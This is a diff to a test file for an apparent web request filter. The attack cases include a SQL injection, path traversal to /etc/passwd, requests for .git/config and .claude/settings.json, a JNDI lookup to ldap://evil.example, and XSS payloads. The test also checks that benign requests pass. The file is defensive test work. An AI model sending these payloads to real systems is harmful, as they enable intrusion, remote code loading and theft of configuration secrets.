@@ -25,6 +25,8 @@ test("attacks are blocked wherever they are, with the class in the reply and not
   const cases: Array<[string, Promise<Awaited<ReturnType<typeof send>>>]> = [
     ["sqli", send("GET", "/items?id=1%27%20OR%20%271%27%3D%271")],
     ["traversal", send("GET", "/static/..%2f..%2f..%2fetc%2fpasswd")],
+    ["traversal", send("GET", "/app/%2Egit/config")],
+    ["traversal", send("GET", "/.claude/settings.json")],
     ["jndi", send("GET", "/", [["user-agent", "${${lower:j}ndi:ldap://evil.example/a}"]])],
     ["xss", send("GET", "/", [["referer", "https://shop.example.com/?q=<script>alert(1)</script>"]])],
     ["xss", send("POST", "/comments", json, ['{"text":"<img src=x onerror=alert(1)>"}'])],
@@ -59,6 +61,7 @@ test("prose and normal API calls pass", async () => {
     await send("GET", "/search?q=select+a+drop-off+point"),
     await send("POST", "/reviews", json, ['{"author":"O\'Brien","text":"I\'d rate it 4 or 5 stars. Use ```sql SELECT 1``` to test."}']),
     await send("GET", "/products/42?sort=price&order=asc"),
+    await send("GET", "/.well-known/openid-configuration"),
     await send("POST", "/links", json, ['{"url":"https://www.example.com/docs/page?id=7"}']),
     // Objects that describe constructors and prototypes, words about them.
     await send("POST", "/docs", json, ['{"constructor":{"name":"Point","params":["x","y"]},"prototype":{"methods":["norm"]},"text":"A constructor sets up the prototype chain."}']),
